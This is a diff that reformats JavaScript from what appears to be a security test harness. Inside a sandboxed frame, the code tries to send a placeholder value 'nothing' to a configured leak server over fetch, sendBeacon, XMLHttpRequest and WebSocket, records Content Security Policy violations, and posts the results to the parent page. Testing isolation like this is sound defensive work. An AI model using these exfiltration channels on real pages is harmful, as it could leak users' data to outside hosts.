@@ -14,7 +14,8 @@
     violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
   });
 
-  const describeError = (error) => (error && typeof error === 'object' && 'name' in error ? `${error.name}: ${error.message}` : String(error));
+  const describeError = (error) =>
+    error && typeof error === 'object' && 'name' in error ? `${error.name}: ${error.message}` : String(error);
 
   const withTimeout = (promise, ms) =>
     new Promise((resolve, reject) => {
@@ -89,7 +90,10 @@
   const stolen = 'nothing';
   await Promise.all([
     attempt('fetch(leak server)', async () => `status ${(await fetch(leakUrl('frame-fetch', stolen))).status}`),
-    attempt('fetch(app origin)', async () => `status ${(await fetch(`${CONFIG.appOrigin}/__leak/${CONFIG.tag}/frame-fetch-app`)).status}`),
+    attempt(
+      'fetch(app origin)',
+      async () => `status ${(await fetch(`${CONFIG.appOrigin}/__leak/${CONFIG.tag}/frame-fetch-app`)).status}`,
+    ),
     attempt('navigator.sendBeacon', () => navigator.sendBeacon(leakUrl('frame-beacon', stolen), stolen)),
     attempt(
       'XMLHttpRequest',
@@ -106,7 +110,9 @@
       'WebSocket',
       () =>
         new Promise((resolve, reject) => {
-          const socket = new WebSocket(`${CONFIG.leakOrigin.replace(/^http/, 'ws')}/leak/${CONFIG.tag}/frame-websocket`);
+          const socket = new WebSocket(
+            `${CONFIG.leakOrigin.replace(/^http/, 'ws')}/leak/${CONFIG.tag}/frame-websocket`,
+          );
           socket.onopen = () => resolve('open');
           socket.onerror = () => reject(new Error('error event'));
         }),
@@ -194,7 +200,10 @@
     }),
   ]);
 
-  parent.postMessage({ spadeFrameAttack: { results, stolen, violations, broadcastReceivedByAttacker: [], boot: null } }, '*');
+  parent.postMessage(
+    { spadeFrameAttack: { results, stolen, violations, broadcastReceivedByAttacker: [], boot: null } },
+    '*',
+  );
 
   // Last, as it would replace this document if it were allowed: a form submission.
   const form = document.createElement('form');
